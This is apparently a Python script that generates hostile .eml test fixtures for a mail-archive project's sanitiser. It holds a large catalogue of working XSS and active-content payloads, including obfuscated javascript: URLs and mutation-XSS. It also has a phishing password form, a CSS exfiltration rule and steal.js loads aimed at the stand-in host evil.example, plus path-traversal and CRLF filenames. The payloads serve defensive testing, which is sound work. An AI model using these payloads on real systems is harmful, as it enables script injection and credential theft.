#!/usr/bin/env python3
"""Write tests/data/hostile/*.eml: mail carrying XSS and other active-content payloads.

    python tests/data/make_hostile.py

Every file is written for this project (no real mail).  Conventions a test can rely on:

* every payload that could run script tries ``window.__pwned=1`` (payloads that would run in a
  child frame also try ``top.__pwned=1``), so a browser test checks ``window.__pwned`` is unset;
* every remote reference points at ``http://evil.example/<case>/...``, so a browser test can fail
  on any request to ``evil.example`` (and tell which case made it);
* Message-IDs are ``<hostile-<case>@evil.example>`` unless the Message-ID is the payload.

Stdlib only, no randomness: the output is byte-identical on every run.
"""

from __future__ import annotations

import base64
import struct
import sys
import zlib
from pathlib import Path

OUT = Path(__file__).with_name("hostile")
P = "window.__pwned=1"  # the canary every script payload tries to set
E = "http://evil.example"
ATTACKER = "Mallory Example <mallory@evil.example>"

CASES: list[tuple[str, str, bytes]] = []


def case(name: str, description: str, data: bytes) -> None:
    assert not any(n == name for n, _, _ in CASES), name
    CASES.append((name, description, data))


def headers_for(name: str, index: int, **overrides: str | None) -> list[tuple[str, str]]:
    """Default top-level headers; a keyword set to None drops that header."""
    base: dict[str, str | None] = {
        "From": ATTACKER,
        "To": "salon@lists.example.org",
        "Subject": f"[Salon] hostile test: {name}",
        "Date": f"Sat, 01 Mar 2025 12:{index:02d}:00 +0000",
        "Message-ID": f"<hostile-{name}@evil.example>",
    }
    for key, value in overrides.items():
        base[key.replace("_", "-")] = value
    out = [(k, v) for k, v in base.items() if v is not None]
    out.append(("MIME-Version", "1.0"))
    return out


def entity(headers: list[tuple[str, str]], body: bytes) -> bytes:
    head = "".join(f"{k}: {v}\n" for k, v in headers).encode("utf-8")
    if not body.endswith(b"\n"):
        body += b"\n"
    return head + b"\n" + body


def message(name: str, content: bytes, **overrides: str | None) -> bytes:
    """A whole message: default headers (with overrides) followed by ``content``.

    ``content`` starts with the entity's own Content-* header lines.
    """
    index = len(CASES)
    head = "".join(f"{k}: {v}\n" for k, v in headers_for(name, index, **overrides))
    return head.encode("utf-8") + content


def text(body: str, subtype: str = "plain", charset: str = "utf-8", extra: str = "") -> bytes:
    data = body.encode("utf-8" if charset.lower() == "utf-7" else charset)
    cte = "7bit" if data.isascii() else "8bit"
    headers = [
        ("Content-Type", f"text/{subtype}; charset={charset}"),
        ("Content-Transfer-Encoding", cte),
    ]
    if extra:
        headers.append(("Content-Disposition", extra))
    return entity(headers, data)


def html(name: str, body: str, head: str = "") -> bytes:
    doc = (
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>hostile</title>\n"
        f"{head}</head>\n<body>\n<p>Hostile test case {name}.</p>\n{body}</body></html>\n"
    )
    return text(doc, "html")


def attachment(data: bytes, ctype: str, disposition: str, cte: str = "base64") -> bytes:
    payload = base64.encodebytes(data) if cte == "base64" else data
    return entity(
        [
            ("Content-Type", ctype),
            ("Content-Transfer-Encoding", cte),
            ("Content-Disposition", disposition),
        ],
        payload,
    )


def multipart(subtype: str, boundary: str, parts: list[bytes], params: str = "") -> bytes:
    out = [f'Content-Type: multipart/{subtype}; boundary="{boundary}"{params}\n\n'.encode()]
    for p in parts:
        out.append(f"--{boundary}\n".encode() + p + b"\n")
    out.append(f"--{boundary}--\n".encode())
    return b"".join(out)


def with_note(name: str, note: str, att: bytes) -> bytes:
    """multipart/mixed: a short text/plain note plus one attachment part."""
    return multipart("mixed", f"=_hostile_{name}", [text(note), att])


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def q(s: str) -> str:
    """RFC 2047 Q-encoding of ``s`` (UTF-8), escaping everything but letters and digits."""
    return "".join(chr(b) if chr(b).isalnum() and b < 128 else f"={b:02X}" for b in s.encode())


def tiny_png() -> bytes:
    raw = b"\x00\xff\x00\x00"  # one red pixel, filter byte 0
    stored = b"\x78\x01\x01" + struct.pack("<HH", len(raw), len(raw) ^ 0xFFFF) + raw
    stored += struct.pack(">I", zlib.adler32(raw))

    def chunk(tag: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(tag + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    sig = b"\x89PNG\r\n\x1a\n"
    return sig + chunk(b"IHDR", ihdr) + chunk(b"IDAT", stored) + chunk(b"IEND", b"")


SCRIPT = f"<script>{P}</script>"
SVG_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
    f'onload="{P}"><script>{P}</script></svg>'
)

# ============================================================================ bodies

N = "plain-script"
case(N + ".eml", "text/plain body full of markup and template syntax; must be shown "
     "escaped, never interpreted", message(N, text(f"""\
Plain text must be escaped, never interpreted:

{SCRIPT}
<img src=x onerror="{P}">
</pre><script>{P}</script>
</textarea><script>{P}</script>
</title></style></noscript><script>{P}</script>
<!--<script>{P}</script>-->
<a href="javascript:{P}">click</a>
{{{{ 7*7 }}}} {{% if 1 %}}jinja{{% endif %}} ${{{P}}} #{{{P}}}
&lt;script&gt;{P}&lt;/script&gt; (already-escaped text must stay visible as typed)
""")))

N = "html-script"
case(N + ".eml", "text/html with <script> in head and body, upper case, module, "
     "split-tag and external src", message(N, html(N, f"""\
{SCRIPT}
<SCRIPT>{P}</SCRIPT>
<script type="module">{P}</script>
<script/x>{P}</script>
<scr<script>ipt>{P}</scr</script>ipt>
<script src="{E}/{N}/a.js"></script>
<script>/*</script><script>*/{P}</script>
""", head=f'{SCRIPT}\n<script src="{E}/{N}/head.js"></script>\n')))

N = "img-onerror"
case(N + ".eml", "<img onerror/onload> in quoted, unquoted, upper-case and slash-separated "
     "forms", message(N, html(N, f"""\
<img src=x onerror="{P}">
<img src=x onerror={P}>
<img src="x" ONERROR='{P}'>
<img/src=x/onerror={P}>
<img src=x onerror = "{P}" alt="spaces around =">
<image src=x onerror={P}>
<img src="{E}/{N}/pixel.gif" onload="{P}">
""")))

N = "event-handlers"
case(N + ".eml", "on* event attributes on body, div, input autofocus, details, video, "
     "audio, marquee, a, animation", message(N, html(N, f"""\
<body onload="{P}" onpageshow="{P}">
<div onmouseover="{P}">hover me</div>
<input autofocus onfocus="{P}">
<details open ontoggle="{P}"><summary>x</summary></details>
<video src=x onerror="{P}"></video>
<audio src=x onerror="{P}"></audio>
<marquee onstart="{P}">scrolling</marquee>
<a href="{E}/{N}/link" onclick="{P}" onmouseenter={P}>a link</a>
<style>@keyframes k {{}}</style><p style="animation-name:k" onanimationstart="{P}">anim</p>
<select autofocus onfocus="{P}"><option>x</option></select>
""")))

N = "javascript-url"
case(N + ".eml", "javascript: URLs in a, img, iframe, form action, formaction, area, "
     "svg xlink:href, and a polyglot", message(N, html(N, f"""\
<a href="javascript:{P}">click</a>
<a href="javascript:void({P})">void</a>
<img src="javascript:{P}">
<iframe src="javascript:{P}"></iframe>
<form action="javascript:{P}"><button>go</button></form>
<form><button formaction="javascript:{P}">formaction</button></form>
<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:{P}"></map>
<svg><a xlink:href="javascript:{P}"><text x="0" y="15">svg link</text></a></svg>
<a href="javascript:/*--></title></style></textarea></script><svg/onload='{P}'>">polyglot</a>
""")))

N = "javascript-url-obfuscated"
obf = f"""\
<a href="JaVaScRiPt:{P}">mixed case</a>
<a href="jav&#x09;ascript:{P}">entity tab</a>
<a href="jav\tascript:{P}">literal tab</a>
<a href="jav
ascript:{P}">literal newline</a>
<a href="java&#x0A;script:{P}">entity newline</a>
<a href="java&#x0D;script:{P}">entity carriage return</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{P}">decimal</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{P}">hex</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105\
&#0000112&#0000116&#0000058{P}">zero-padded, no semicolons</a>
<a href="javascript&colon;{P}">named colon</a>
<a href="javascript&#58;{P}">numeric colon</a>
<a href=" &#14;  javascript:{P}">leading space and control</a>
<a href="\x01javascript:{P}">leading raw 0x01</a>
<a href="&#x20;javascript:{P}">leading entity space</a>
<a href="%6A%61%76%61%73%63%72%69%70%74:{P}">percent-encoded (must not be decoded)</a>
<img src="jav&#x09;ascript:{P}">
<iframe src="JAVASCRIPT:{P}"></iframe>
"""
case(N + ".eml", "javascript: hidden by case, entity-encoded tab/newline/CR, decimal/hex/"
     "padded entities, &colon;, control chars, percent-encoding", message(N, html(N, obf)))

N = "vbscript-url"
case(N + ".eml", "vbscript: URLs (lower, mixed case, entity-encoded) in a and img",
     message(N, html(N, f"""\
<a href="vbscript:{P}">vbscript</a>
<a href="VbScRiPt:MsgBox(&quot;x&quot;)">mixed case</a>
<a href="vb&#x09;script:{P}">entity tab</a>
<img src="vbscript:{P}">
""")))

N = "data-url"
DOC = b64(f"<script>{P};top.__pwned=1</script>")
SVGDOC = b64(SVG_SCRIPT)
case(N + ".eml", "data: URLs (text/html, base64 and plain, SVG, javascript) in a, iframe, "
     "object, embed, img and script src", message(N, html(N, f"""\
<a href="data:text/html;base64,{DOC}">data html base64</a>
<a href="data:text/html,<script>{P}</script>">data html plain</a>
<a href="DaTa:text/html;base64,{DOC}">mixed case</a>
<a href="data:application/javascript,{P}">data js</a>
<iframe src="data:text/html;base64,{DOC}"></iframe>
<object data="data:text/html;base64,{DOC}"></object>
<embed src="data:image/svg+xml;base64,{SVGDOC}">
<img src="data:image/svg+xml;base64,{SVGDOC}">
<script src="data:text/javascript,{P}"></script>
<img src="data:image/png;base64,{base64.b64encode(tiny_png()).decode()}" alt="benign 1px png">
""")))

N = "svg-onload"
case(N + ".eml", "inline <svg>: onload, <script>, animate onbegin, set to onmouseover, "
     "xlink javascript:, remote use/image, foreignObject iframe", message(N, html(N, f"""\
<svg onload="{P}"></svg>
<svg/onload={P}>
<svg><script>{P}</script></svg>
<svg><script href="{E}/{N}/s.js"></script></svg>
<svg><animate onbegin="{P}" attributeName="x" dur="1s"/></svg>
<svg><rect width="50" height="50"><set attributeName="onmouseover" to="{P}"/></rect></svg>
<svg><a xlink:href="javascript:{P}"><text x="0" y="15">tap</text></a></svg>
<svg><use href="{E}/{N}/sprite.svg#icon"/></svg>
<svg><image href="{E}/{N}/image.png" width="10" height="10"/></svg>
<svg><foreignObject width="100" height="50"><iframe srcdoc="&lt;script&gt;{P};top.__pwned=1\
&lt;/script&gt;"></iframe></foreignObject></svg>
""")))

N = "iframe"
case(N + ".eml", "<iframe> with remote src, protocol-relative src, srcdoc script, and "
     "<frameset>/<frame>", message(N, html(N, f"""\
<iframe src="{E}/{N}/frame.html" width="600" height="400"></iframe>
<iframe src="//evil.example/{N}/protocol-relative.html"></iframe>
<iframe srcdoc="&lt;script&gt;{P};top.__pwned=1&lt;/script&gt;"></iframe>
<iframe srcdoc="<img src=x onerror='{P};top.__pwned=1'>"></iframe>
<frameset><frame src="{E}/{N}/frame2.html"></frameset>
""")))

N = "object-embed"
case(N + ".eml", "<object>, <embed> and <applet> loading remote plugins/pages and "
     "javascript:", message(N, html(N, f"""\
<object data="{E}/{N}/movie.swf" type="application/x-shockwave-flash">
<param name="allowScriptAccess" value="always"><param name="movie" value="{E}/{N}/m2.swf">
</object>
<object data="{E}/{N}/page.html" type="text/html"></object>
<embed src="{E}/{N}/movie.swf" type="application/x-shockwave-flash">
<embed src="javascript:{P}">
<applet code="Evil.class" codebase="{E}/{N}/"></applet>
""")))

N = "form"
case(N + ".eml", "phishing <form> posting a password to evil.example, hidden inputs, "
     "formaction javascript:, <isindex>", message(N, html(N, f"""\
<form action="{E}/{N}/login" method="post">
<p>Your list password has expired. Please log in again:</p>
<label>Email <input name="user" type="email"></label>
<label>Password <input name="password" type="password"></label>
<input type="hidden" name="campaign" value="salon">
<button type="submit">Log in</button>
<button formaction="javascript:{P}">Cancel</button>
</form>
<isindex action="javascript:{P}" prompt="search">
<input form="f2" formaction="{E}/{N}/other" type="submit" value="orphan">
""")))

N = "base-href"
case(N + ".eml", "<base href> to evil.example (and javascript:) so relative links and "
     "images resolve there", message(N, html(N, f"""\
<base href="{E}/{N}/">
<a href="login.html">relative link</a>
<img src="pixel.gif" alt="relative image">
<a href="/archive/">root-relative link</a>
""", head=f'<base href="{E}/{N}/" target="_top">\n<base href="javascript:{P}//">\n')))

N = "meta-refresh"
case(N + ".eml", "<meta http-equiv> refresh to evil.example and javascript:, Set-Cookie, "
     "CSP loosening, referrer policy, in head and body", message(N, html(N, f"""\
<meta http-equiv="refresh" content="1;url={E}/{N}/body">
<meta http-equiv="refresh" content="0; url=javascript:{P}">
""", head=f"""\
<meta http-equiv="refresh" content="0;url={E}/{N}/landing">
<meta http-equiv="Set-Cookie" content="session=stolen; path=/">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<meta name="referrer" content="unsafe-url">
""")))

N = "css-expression"
case(N + ".eml", "CSS expression() in style attributes and <style> (plain, comment-split, "
     "escaped), behavior: .htc and -moz-binding", message(N, html(N, f"""\
<div style="width: expression({P});">plain</div>
<div style="width: expr/**/ession({P})">comment split</div>
<div style="width: \\65 xpression({P})">escaped e</div>
<div style="xss:ex&#x2F;**&#x2F;pression({P})">entities</div>
<style>p {{ color: expression({P}); }}</style>
<div style="behavior: url({E}/{N}/x.htc)">htc</div>
<div style="-moz-binding: url({E}/{N}/x.xml#xss)">xbl</div>
""")))

N = "css-url-javascript"
case(N + ".eml", "style url(javascript:) and remote url() (quoted, entity-quoted, escaped), "
     "plus a full-page overlay", message(N, html(N, f"""\
<div style="background-image: url(javascript:{P})">a</div>
<div style="background: url('javascript:{P}')">b</div>
<div style="background:url(&quot;javascript:{P}&quot;)">c</div>
<div style="list-style-image: url({E}/{N}/bullet.png)">d</div>
<div style="background:url({E}/{N}/track.gif)">e</div>
<div style="background:u\\72 l({E}/{N}/escaped.gif)">f</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;\
background:#fff">overlay covering the whole archive page</div>
""")))

N = "css-import"
case(N + ".eml", "@import of remote stylesheets in <style> (url(), bare string, escaped) "
     "and in a style attribute", message(N, html(N, f"""\
<style>@import url("{E}/{N}/a.css");</style>
<style>@import '{E}/{N}/b.css';</style>
<style>@imp\\ort "{E}/{N}/c.css";</style>
<div style="@import url({E}/{N}/d.css)">attr</div>
""")))

N = "style-remote"
case(N + ".eml", "<style> fetching remote background, @font-face, content: url() and an "
     "attribute-selector exfiltration rule", message(N, html(N, """\
<p>Styled text.</p>
<input name="secret" value="abc">
""", head=f"""\
<style>
body {{ background: url({E}/{N}/bg.png); }}
@font-face {{ font-family: evil; src: url({E}/{N}/font.woff2); }}
p {{ font-family: evil; }}
p::after {{ content: url({E}/{N}/after.png); }}
input[value^="a"] {{ background: url({E}/{N}/leak?a); }}
</style>
""")))

N = "link-stylesheet"
case(N + ".eml", "<link> rel=stylesheet/import/preload/prefetch/dns-prefetch/icon/"
     "modulepreload to evil.example", message(N, html(N, f"""\
<link rel="stylesheet" href="{E}/{N}/body.css">
""", head=f"""\
<link rel="stylesheet" href="{E}/{N}/s.css">
<link rel="import" href="{E}/{N}/i.html">
<link rel="preload" as="script" href="{E}/{N}/p.js">
<link rel="modulepreload" href="{E}/{N}/m.js">
<link rel="prefetch" href="{E}/{N}/prefetch">
<link rel="dns-prefetch" href="//evil.example">
<link rel="icon" href="{E}/{N}/favicon.ico">
""")))

N = "mxss-math"
case(N + ".eml", "mutation-XSS through <math>/<mtext>/<mglyph>/<style> namespace confusion "
     "and <math href>", message(N, html(N, f"""\
<math><mtext><table><mglyph><style><img src=x onerror="{P}"></style></mglyph></table>\
</mtext></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>\
<img src=x onerror={P}>"></style></mtext></svg></mglyph></h1></mtext></math>
<math><mi><style><img src=x onerror={P}></style></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={P}>
<math href="javascript:{P}">math href</math>
<math><maction actiontype="statusline" xlink:href="javascript:{P}">maction</maction></math>
""")))

N = "mxss-template"
case(N + ".eml", "mutation-XSS via <template>, <noscript>, <svg><style>, <xmp>, <noembed>, "
     "<textarea>, <title>, <iframe>, <select> raw-text parsing", message(N, html(N, f"""\
<template><script>{P}</script></template>
<template><img src=x onerror={P}></template>
<noscript><p title="</noscript><img src=x onerror={P}>"></noscript>
<svg></p><style><a id="</style><img src=1 onerror={P}>">
<svg><style><img src=x onerror={P}></style></svg>
<xmp><p title="</xmp><img src=x onerror={P}>"></xmp>
<noembed><img title="</noembed><img src=x onerror={P}>"></noembed>
<textarea><img title="</textarea><img src=x onerror={P}>"></textarea>
<title><img title="</title><img src=x onerror={P}>"></title>
<iframe><img title="</iframe><img src=x onerror={P}>"></iframe>
<select><template><style><img src=x onerror={P}></style></template></select>
""")))

N = "subject-attr-break"
case(N + ".eml", "raw Subject that breaks out of attributes and <title> with script, img "
     "onerror and an event handler", message(N, text(
         "The Subject header tries to break out of an HTML attribute and of <title>.\n"),
     Subject=f"\"><script>{P}</script><img src=x onerror={P}>' onmouseover='{P}' "
     f"</title><script>{P}</script>"))

N = "from-name-attr-break"
case(N + ".eml", "From/Reply-To/Cc display names and local parts carrying attribute-breaking "
     "markup and javascript:", message(N, text(
         "The address headers carry markup in display names and quoted local parts.\n"),
     From=f'"\\"><script>{P}</script>" <mallory@evil.example>',
     Reply_To=f'"<img src=x onerror={P}>" <"\\"><svg/onload={P}>"@evil.example>',
     Cc=f"\"x' onmouseover='{P}\" <x@evil.example>, javascript:{P} "
     f"<javascript:{P}@evil.example>"))

N = "filename-attr-break"
case(N + ".eml", "attachment filename and name parameters with quote-breaking markup and "
     "<script>", message(N, with_note(N, "See the attached notes.\n", attachment(
         b"just some notes\n",
         'text/plain; charset=us-ascii; name="<script>window.__pwned=1</script>.txt"',
         f'attachment; filename="\\"><img src=x onerror={P}>.txt"', cte="7bit"))))

N = "message-id-attr-break"
case(N + ".eml", "Message-ID containing `\"><script>` and <svg onload> (used in /mid/ "
     "links and HTML ids)", message(N, text("The Message-ID itself is the payload.\n"),
     Message_ID=f"<\"><script>{P}</script>x'><svg/onload={P}>@evil.example>"))

N = "message-id-path-chars"
case(N + ".eml", "Message-ID with ../, /, ?, #, % and spaces, for permalink and file-path "
     "handling", message(N, text("The Message-ID contains path and URL metacharacters.\n"),
     Message_ID="<../../admin/x?y=1&z=%2e%2e#frag /etc/passwd@evil.example>"))

N = "references-attr-break"
case(N + ".eml", "In-Reply-To and References ids with attribute-breaking markup and "
     "javascript:", message(N, text("The threading headers carry markup.\n"),
     In_Reply_To=f"<'><svg onload={P}>@evil.example>",
     References=f"<\"><script>{P}</script>@evil.example>\n"
     f" <javascript:{P}@evil.example> <'><img src=x onerror={P}>@evil.example>"))

N = "subject-rfc2047-script"
SUBJ = base64.b64encode(SCRIPT.encode()).decode()
SUBJ_Q = q(f'"><img src=x onerror={P}>')
case(N + ".eml", "RFC 2047 B- and Q-encoded Subject and From name that decode to "
     "<script> and <img onerror>", message(N, text(
         "Subject and From decode (RFC 2047) to markup.\n"),
     Subject=f"=?utf-8?B?{SUBJ}?=\n =?utf-8?Q?{SUBJ_Q}?=",
     From=f"=?utf-8?B?{b64(f'<svg onload={P}>')}?= <mallory@evil.example>"))

N = "html-attachment"
case(N + ".eml", "text/html attachment (invoice.html) with inline and remote script; must be "
     "served as a download", message(N, with_note(N, "Please find your invoice attached.\n",
     attachment(f"""\
<!DOCTYPE html><html><body><h1>Invoice</h1>
{SCRIPT}
<script src="{E}/{N}/steal.js"></script>
<img src="{E}/{N}/opened.gif">
</body></html>
""".encode(), 'text/html; charset=utf-8; name="invoice.html"',
                'attachment; filename="invoice.html"'))))

N = "svg-attachment"
case(N + ".eml", "image/svg+xml attachment (disposition inline) with <script>, onload, "
     "foreignObject and a remote image", message(N, with_note(N, "A drawing for you.\n",
     attachment(f"""\
<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="100" height="100" onload="{P}">
  <script type="text/javascript">{P}</script>
  <image xlink:href="{E}/{N}/img.png" width="10" height="10"/>
  <foreignObject width="100" height="100">
    <body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{P}"/></body>
  </foreignObject>
  <circle cx="50" cy="50" r="40" fill="tomato"/>
</svg>
""".encode(), 'image/svg+xml; name="drawing.svg"', 'inline; filename="drawing.svg"'))))


def file_case(name: str, description: str, disposition: str, data: bytes = b"",
              ctype: str = "application/octet-stream") -> None:
    case(name + ".eml", description, message(name, with_note(
        name, "Attachment name test.\n",
        attachment(data or b"harmless attachment content\n", ctype, disposition))))


file_case("traversal-unix", "attachment filename ../../etc/passwd",
          'attachment; filename="../../etc/passwd"',
          b"root:x:0:0:not a real passwd file:/root:/bin/sh\n", "text/plain")
file_case("traversal-windows", "attachment filename ..\\..\\win.ini (quoted-string with "
          "escaped backslashes)", 'attachment; filename="..\\\\..\\\\win.ini"',
          b"[fonts]\r\n; not a real win.ini\r\n", "text/plain")
file_case("traversal-absolute", "attachment filename /etc/shadow (absolute path)",
          'attachment; filename="/etc/shadow"', b"root:!:19000::::::\n", "text/plain")
file_case("filename-nul", "RFC 2231 filename with %00: invoice.pdf<NUL>.html, HTML content",
          "attachment; filename*=UTF-8''invoice.pdf%00.html",
          f"<html><body>{SCRIPT}</body></html>\n".encode())
LONG = "long-" + "x" * 291 + ".txt"
file_case("filename-long", "300-character filename sent as RFC 2231 continuations",
          "attachment;\n " + ";\n ".join(
              f'filename*{i}="{LONG[j:j + 60]}"' for i, j in enumerate(range(0, 300, 60))))
file_case("filename-con", "attachment filename CON (Windows reserved device name)",
          'attachment; filename="CON"')
file_case("filename-htaccess", "attachment filename .htaccess (hidden, server config)",
          'attachment; filename=".htaccess"',
          b"AddHandler cgi-script .txt\nOptions +ExecCGI\n", "text/plain")
file_case("filename-rtlo", "RFC 2231 filename with U+202E RIGHT-TO-LEFT OVERRIDE "
          "(invoice<RLO>fdp.exe shows as invoiceexe.pdf)",
          "attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe")
file_case("filename-crlf", "RFC 2231 filename decoding to CR LF plus headers and <script> "
          "(HTTP response splitting via Content-Disposition)",
          "attachment; filename*=UTF-8''a%0D%0AContent-Type%3A%20text%2Fhtml%0D%0A%0D%0A"
          "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E.txt")

N = "related-cid-remote"
case(N + ".eml", "multipart/related HTML mixing cid: images (present, missing, path-like, "
     "SVG with script) with remote tracking images and CSS", message(N, multipart(
         "related", f"=_hostile_{N}", [
             text(f"""\
<!DOCTYPE html><html><body>
<p>Newsletter</p>
<img src="cid:logo@evil.example" alt="inline logo">
<img src="{E}/{N}/pixel.gif" width="1" height="1" alt="">
<img src="cid:missing-part@evil.example" alt="missing">
<img src="cid:../../etc/passwd" alt="path-like cid">
<img src="cid:chart@evil.example" alt="svg part with script">
<div style="background:url(cid:logo@evil.example)">cid in css</div>
<div style="background:url({E}/{N}/bg.png)">remote css</div>
</body></html>
""", "html"),
             entity([("Content-Type", "image/png"), ("Content-Transfer-Encoding", "base64"),
                     ("Content-ID", "<logo@evil.example>"),
                     ("Content-Disposition", 'inline; filename="logo.png"')],
                    base64.encodebytes(tiny_png())),
             entity([("Content-Type", "image/svg+xml"),
                     ("Content-Transfer-Encoding", "7bit"),
                     ("Content-ID", "<chart@evil.example>"),
                     ("Content-Disposition", 'inline; filename="chart.svg"')],
                    SVG_SCRIPT.encode()),
         ], params='; type="text/html"')))

N = "plain-autolink"
case(N + ".eml", "text/plain URLs that a linkifier might mishandle: javascript:, data:, "
     "quotes and markup inside URLs, angle brackets, www.", message(N, text(f"""\
Links a plain-text autolinker must not turn into active content:

javascript:{P}
JAVASCRIPT:{P}
data:text/html,<script>{P}</script>
{E}/{N}/a"onmouseover="{P}
{E}/{N}/b'onmouseover='{P}
{E}/{N}/<script>{P}</script>
{E}/{N}/x'><svg/onload={P}>
<{E}/{N}/angle-brackets>
mailto:"><script>{P}</script>@evil.example
www.evil.example/{N}/www
""")))

N = "remote-attributes"
case(N + ".eml", "remote loads via img src/srcset, picture source, video poster, audio, "
     "background attrs, input image, lowsrc, ping, svg image, protocol-relative",
     message(N, html(N, f"""\
<img src="{E}/{N}/img.png">
<img src="//evil.example/{N}/protocol-relative.png">
<img srcset="{E}/{N}/srcset1.png 1x, {E}/{N}/srcset2.png 2x">
<img lowsrc="{E}/{N}/lowsrc.png" dynsrc="{E}/{N}/dynsrc.avi" src="x">
<picture><source srcset="{E}/{N}/source.png"><img src="{E}/{N}/picture.png"></picture>
<video poster="{E}/{N}/poster.png" src="{E}/{N}/v.mp4"></video>
<audio src="{E}/{N}/a.mp3" autoplay></audio>
<table background="{E}/{N}/table.png"><tr><td background="{E}/{N}/td.png">x</td></tr></table>
<input type="image" src="{E}/{N}/input.png">
<a ping="{E}/{N}/ping" href="{E}/{N}/link">ping</a>
<svg><image href="{E}/{N}/svg-image.png" width="5" height="5"/></svg>
""", head=f'<body background="{E}/{N}/body.png">\n')))

N = "dangling-markup"
case(N + ".eml", "unterminated attribute values (img src, a href, base target) that would "
     "swallow following page content into an evil.example URL", message(N, html(N, f"""\
<img src='{E}/{N}/leak?
<a href="{E}/{N}/leak2?
<base target='
<p>Everything after this point would end up inside the URLs above.</p>
""")))

N = "utf7-charset"
case(N + ".eml", "text/html declared charset=utf-7 whose UTF-7 decoding is <script>; must "
     "never be decoded or sniffed as UTF-7", message(N, text(
         "<html><body><p>utf-7 test</p>\n"
         "+ADw-script+AD4-window.__pwned+AD0-1+ADw-/script+AD4-\n"
         "+ADw-img src+AD0-x onerror+AD0-window.+AF8AXw-pwned+AD0-1+AD4-\n"
         "</body></html>\n", "html", "utf-7")))

N = "rfc822-attachment"
INNER = (
    "From: Inner <inner@evil.example>\n"
    f"Subject: <img src=x onerror={P}>\n"
    "Message-ID: <hostile-rfc822-inner@evil.example>\n"
    "MIME-Version: 1.0\n"
).encode() + html(N, f'{SCRIPT}\n<img src=x onerror="{P}">\n<img src="{E}/{N}/inner.png">\n')
case(N + ".eml", "message/rfc822 attachment whose inner HTML part has script, onerror and a "
     "remote image, and a hostile inner Subject", message(N, multipart(
         "mixed", f"=_hostile_{N}", [
             text("Forwarding the message below.\n"),
             b"Content-Type: message/rfc822\nContent-Disposition: inline\n\n" + INNER,
         ])))

N = "html-comment-tricks"
case(N + ".eml", "conditional comments, comment-ending variants (`<!-->`, `--!>`), CDATA, "
     "processing instructions and DOCTYPE entities hiding script", message(N, html(N, f"""\
<!--[if gte IE 4]><script>{P}</script><![endif]-->
<!--><img src=x onerror={P}>-->
<!-- --!><img src=x onerror={P}> -->
<![CDATA[<img src=x onerror={P}>]]>
<?xml-stylesheet href="{E}/{N}/x.xsl"?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror={P}>">]>
""")))

N = "content-sniffing"
case(N + ".eml", "attachments whose bytes are HTML with script but declared image/png "
     "(photo.png) and application/octet-stream (report.html): needs nosniff", message(
         N, multipart("mixed", f"=_hostile_{N}", [
             text("Two attachments.\n"),
             attachment(f"<html><body>{SCRIPT}</body></html>\n".encode(),
                        'image/png; name="photo.png"', 'inline; filename="photo.png"'),
             attachment(f"<html><body>{SCRIPT}</body></html>\n".encode(),
                        "application/octet-stream", 'attachment; filename="report.html"'),
         ])))

N = "tabnabbing"
case(N + ".eml", "links with target=_blank and window.opener tricks (reverse tabnabbing); "
     "rel=noopener must be forced", message(N, html(N, f"""\
<a href="{E}/{N}/page" target="_blank">opens a new tab</a>
<a href="{E}/{N}/page2" target="_blank" rel="opener">explicit opener</a>
<a href="{E}/{N}/page3" target="salon_main">named target</a>
""")))

N = "display-name-spoof"
case(N + ".eml", "From display name impersonating another address and a list admin, with "
     "bidi override and zero-width characters", message(N, text(
         "Please send me your list password to verify your account.\n"),
     From="=?utf-8?B?" + b64("Alice Martin <alice@example.org> \u202e\u200b") +
     "?= <mallory@evil.example>",
     Reply_To='"salon-owner@lists.example.org" <mallory@evil.example>'))


def main() -> None:
    OUT.mkdir(exist_ok=True)
    names = {n for n, _, _ in CASES}
    for name, _, data in CASES:
        (OUT / name).write_bytes(data)
    stale = sorted(p.name for p in OUT.glob("*.eml") if p.name not in names)
    if stale:
        print("warning: files not produced by this script:", ", ".join(stale), file=sys.stderr)
    total = sum(len(d) for _, _, d in CASES)
    print(f"wrote {len(CASES)} files to {OUT} ({total} bytes)")


if __name__ == "__main__":
    main()
